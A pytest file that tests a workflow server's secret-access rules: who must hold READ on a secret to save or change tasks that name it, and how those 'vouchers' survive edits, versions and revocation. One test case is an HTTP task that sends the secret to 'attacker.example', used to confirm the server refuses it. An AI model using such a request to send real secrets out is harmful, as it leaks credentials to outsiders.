"""Vouchers: who saved a task answers for the secrets it names (promise 6)."""

from typing import Any

import httpx
import pytest

from tests.gate.doors.stage import Stage, http, loop, simple, system
from tests.support.server import Api

pytestmark = pytest.mark.promise(6)


class Editor:
    """May change the workflow, and has no right on the secret."""

    def __init__(self, stage: Stage) -> None:
        self.stage = stage
        self.made, self.api = stage.caller("editor", "METADATA_API")
        stage.admin.grant(self.made, "WORKFLOW_DEF", stage.name, "READ", "UPDATE", "EXECUTE")

    def put(self, *tasks: dict[str, Any], **fields: Any) -> httpx.Response:
        return self.api.raw("PUT", "/api/metadata/workflow", [{"name": self.stage.name, "version": 1, "tasks": list(tasks), **fields}])


@pytest.fixture
def editor(stage: Stage) -> Editor:
    stage.save(simple(stage.task, key=stage.key, n=1))
    return Editor(stage)


def opens(stage: Stage, starter: Api) -> bool:
    starter.start(stage.name)
    found = stage.entitled.poll(stage.task)
    return bool(found) and found[0]["inputData"]["key"] == stage.value


def test_it_works(stage: Stage, editor: Editor) -> None:
    assert opens(stage, editor.api)


def test_saving_a_task_that_names_a_secret_needs_the_right_to_use_it(stage: Stage) -> None:
    _, other = stage.caller("other", "USER", "METADATA_API")
    answer = other.raw("POST", "/api/metadata/workflow", {"name": stage.name, "tasks": [simple(stage.task, key=stage.key)]})
    assert answer.status_code == 403
    assert f"(missing: READ on SECRET_NAME {stage.secret})" in answer.json()["message"]
    assert stage.admin.raw("GET", f"/api/metadata/workflow/{stage.name}").status_code == 404


@pytest.mark.parametrize("access", ["CREATE", "UPDATE", "DELETE", "EXECUTE"])
def test_for_a_worker_task_only_read_is_such_a_right(access: str, stage: Stage) -> None:
    other_id, other = stage.caller("other", "METADATA_API")
    stage.admin.grant(other_id, "SECRET_NAME", stage.secret, access)
    answer = other.raw("POST", "/api/metadata/workflow", {"name": stage.name, "tasks": [simple(stage.task, key=stage.key)]})
    assert answer.status_code == 403
    answer = other.raw("POST", "/api/metadata/workflow", {"name": stage.name, "tasks": [http("http://a.example/", body=stage.key)]})
    assert answer.status_code == (200 if access == "EXECUTE" else 403)


CHANGES: dict[str, dict[str, Any]] = {
    "another input": {"inputParameters": {"key": "KEY", "n": 2}},
    "one input more": {"inputParameters": {"key": "KEY", "n": 1, "more": "${workflow.input}"}},
    "the secret at another place": {"inputParameters": {"other": "KEY", "n": 1}},
    "the secret twice": {"inputParameters": {"key": "KEY KEY", "n": 1}},
    "another worker": {"name": "another"},
    "another reference name": {"taskReferenceName": "uno"},
    "another type": {"type": "HTTP", "inputParameters": {"http_request": {"uri": "http://attacker.example/KEY", "method": "GET"}}},
    "a retry count": {"retryCount": 3},
    "optional": {"optional": True},
}


@pytest.mark.parametrize("change", CHANGES)
def test_a_changed_task_needs_a_saver_that_may_use_the_secret(change: str, stage: Stage, editor: Editor) -> None:
    def filled(value: Any) -> Any:
        if isinstance(value, dict):
            return {name: filled(member) for name, member in value.items()}
        return value.replace("KEY", stage.key) if isinstance(value, str) else value

    changed = {**simple(stage.task, key=stage.key, n=1), **filled(CHANGES[change])}
    answer = editor.put(changed)
    assert (answer.status_code, f"(missing: READ on SECRET_NAME {stage.secret})" in answer.json()["message"]) == (403, True)
    assert opens(stage, editor.api)
    stage.admin.grant(editor.made, "SECRET_NAME", stage.secret, "READ")
    assert editor.put(changed).status_code == 200


def test_an_unchanged_task_keeps_its_voucher_whatever_changes_around_it(stage: Stage, editor: Editor) -> None:
    kept = simple(stage.task, key=stage.key, n=1)
    assert editor.put(kept, simple(stage.task, ref="two", key="free"), description="changed", timeoutSeconds=60).status_code == 200
    assert opens(stage, editor.api)
    stage.admin.revoke(stage.author_id, "SECRET_NAME", stage.secret, "READ")
    assert not opens(stage, editor.api)


def test_a_task_saved_anew_by_another_has_that_one_for_a_voucher(stage: Stage, editor: Editor) -> None:
    stage.admin.grant(editor.made, "SECRET_NAME", stage.secret, "READ")
    assert editor.put(simple(stage.task, key=stage.key, n=2)).status_code == 200
    stage.admin.revoke(stage.author_id, "SECRET_NAME", stage.secret, "READ")
    assert opens(stage, editor.api)
    stage.admin.revoke(editor.made, "SECRET_NAME", stage.secret, "READ")
    assert not opens(stage, editor.api)


def test_an_unchanged_task_saved_again_by_another_keeps_the_first_ones_voucher(stage: Stage, editor: Editor) -> None:
    stage.admin.grant(editor.made, "SECRET_NAME", stage.secret, "READ")
    assert editor.put(simple(stage.task, key=stage.key, n=1)).status_code == 200
    stage.admin.revoke(editor.made, "SECRET_NAME", stage.secret, "READ")
    assert opens(stage, editor.api)


def test_a_new_version_keeps_vouchers_as_well(stage: Stage, editor: Editor) -> None:
    assert editor.put(simple(stage.task, key=stage.key, n=1), version=2).status_code == 200
    assert editor.put(simple(stage.task, key=stage.key, n=2), version=3).status_code == 403
    assert opens(stage, editor.api)


def test_what_a_read_shows_can_be_saved_as_it_is(stage: Stage, editor: Editor) -> None:
    shown = editor.api.call("GET", f"/api/metadata/workflow/{stage.name}")
    assert shown["tasks"][0]["inputParameters"]["key"] == stage.key
    assert editor.api.raw("PUT", "/api/metadata/workflow", [shown]).status_code == 200
    assert opens(stage, editor.api)


def test_a_workflow_deleted_and_made_anew_keeps_no_voucher(stage: Stage, editor: Editor) -> None:
    stage.admin.call("DELETE", f"/api/metadata/workflow/{stage.name}/1")
    answer = editor.put(simple(stage.task, key=stage.key, n=1))
    assert (answer.status_code, f"SECRET_NAME {stage.secret}" in answer.json()["message"]) == (403, True)


def test_tasks_inside_others_have_vouchers_of_their_own(stage: Stage) -> None:
    inner = simple(stage.task, key=stage.key)
    switch = {
        **system("SWITCH", "s", x="${workflow.input.x}"), "evaluatorType": "value-param", "expression": "x",
        "decisionCases": {"a": [inner]}, "defaultCase": [simple(stage.task, ref="two", key=stage.key)],
    }  # fmt: skip
    stage.save(switch, loop(1, simple(stage.task, ref="three", key=stage.key)))
    editor = Editor(stage)
    kept = [switch, loop(1, simple(stage.task, ref="three", key=stage.key))]
    assert editor.put(*kept).status_code == 200
    assert editor.put({**switch, "expression": "y", "decisionCases": {"b": [inner]}}, kept[1]).status_code == 200
    assert editor.put({**switch, "decisionCases": {"a": [simple(stage.task, key=f"{stage.key}!")]}}, kept[1]).status_code == 403


def test_who_revokes_right_after_saving_shuts_it_for_runs_that_wait(stage: Stage) -> None:
    run = stage.run(simple(stage.task, key="free"), simple(stage.task, ref="two", key=stage.key))
    (task,) = stage.entitled.poll(stage.task)
    stage.admin.revoke(stage.author_id, "SECRET_NAME", stage.secret, "READ")
    stage.worker.complete(task)
    assert stage.worker.poll(stage.task) == []
    assert "who vouched for it" in stage.ended(run)["tasks"][-1]["reasonForIncompletion"]
